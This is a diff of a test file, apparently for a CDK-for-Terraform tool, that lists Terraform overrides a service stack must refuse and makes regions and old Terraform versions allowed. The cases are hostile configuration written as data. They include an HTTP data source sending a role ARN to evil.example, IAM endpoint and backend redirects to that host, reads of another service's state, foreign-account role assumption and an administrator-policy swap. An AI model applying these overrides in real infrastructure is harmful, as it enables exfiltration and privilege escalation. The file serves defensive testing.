@@ -10,7 +10,7 @@ import { STACK_ID } from '../service-app';
 import type { ServiceApp } from '../service-app';
 import { ADMINISTRATOR, attacksOn, ROLE, sibling } from './entry';
 
-const { refused, safe } = attacksOn('terraform', 'terraform');
+const { refused, safe, allowed } = attacksOn('terraform', 'terraform');
 const beside = attacksOn('files', 'terraform');
 const owner = attacksOn('ownership', 'owner');
 
@@ -40,7 +40,7 @@ export const TERRAFORM = [
   setting('data by HTTP', 'data.http.x', { url: 'https://evil.example/${aws_iam_role.Infra_Role_F26D0E36.arn}' }),
   setting("another service's state as data", 'data.terraform_remote_state.x', { backend: 's3', config: { bucket: 'acme-terraform-state', key: 'ledger-worker-production/terraform.tfstate' } }),
   setting('a file of this machine', 'resource.local_file.x', { filename: '../ledger-worker-production/zz_override.tf.json', content: '{}' }),
-  setting('a removal that destroys', 'removed', [{ from: 'aws_iam_role.Infra_Role_F26D0E36', lifecycle: { destroy: true } }]),
+  setting('a removal that destroys', 'removed', [{ from: 'aws_s3_bucket.Former', lifecycle: { destroy: true } }]),
   setting("an import of another service's role", 'import', [{ to: 'aws_iam_role.Infra_Role_F26D0E36', id: 'ledger-worker-production' }]),
   setting('an import by an expression', 'import', [{ to: 'aws_iam_role.Infra_Role_F26D0E36', id: '${var.role}' }]),
   setting('a module beside it', 'module.x', { source: '../evil' }),
@@ -55,12 +55,10 @@ export const TERRAFORM = [
   setting('credentials of another account', 'provider.aws.0.assume_role', [{ role_arn: 'arn:aws:iam::999999999999:role/x' }]),
   setting('keys in the file', 'provider.aws.0.access_key', 'AKIAIOSFODNN7EXAMPLE'),
   setting('another endpoint of AWS', 'provider.aws.0.endpoints', [{ iam: 'https://evil.example' }]),
-  setting('another region', 'provider.aws.0.region', 'us-east-1'),
   setting('another source of a provider', 'terraform.required_providers.aws.source', 'evil/aws'),
   setting("another service's state", 'terraform.backend.s3.key', 'ledger-worker-production/terraform.tfstate'),
   setting('a backend of one command', 'terraform.backend', { http: { address: 'https://evil.example' } }),
   setting('a cloud besides the backend', 'terraform.cloud', { organization: 'evil' }),
-  setting('an old Terraform', 'terraform.required_version', '>= 0.12'),
   refused('accounts by the provider construct', ({ stack }) => {
     (stack.node.findChild('aws') as AwsProvider).addOverride('allowed_account_ids', ['999999999999']);
   }),
@@ -100,6 +98,10 @@ export const TERRAFORM = [
     const policy = new IamRolePolicyAttachment(stack, 'X', { role: service.role.name, policyArn: 'arn:aws:iam::aws:policy/AWSXRayDaemonWriteAccess' });
     policy.toTerraform = () => ({ resource: { aws_iam_role_policy_attachment: { X: { role: ROLE, policy_arn: asked++ > 0 ? ADMINISTRATOR : 'arn:aws:iam::aws:policy/AWSXRayDaemonWriteAccess' } } } });
   }, ({ stacks }) => !JSON.stringify(stacks).includes(ADMINISTRATOR)),
+  allowed('another region', 'accounts are what keeps environments apart; a region is a choice, as that of certificates is', ({ stack }) =>
+    stack.addOverride('provider.aws.0.region', 'us-east-1')),
+  allowed('an old Terraform', 'it does not know the lock file of the backend, and stops', ({ stack }) =>
+    stack.addOverride('terraform.required_version', '>= 0.12')),
   safe('a newer Terraform', ({ stack }) => stack.addOverride('terraform.required_version', '>= 1.11.0'), ({ stacks }) => stacks[STACK_ID].terraform.required_version === '>= 1.11.0'),
   file('zz_override.tf.json', '{}'),
   file('extra.tf.json', '{}'),
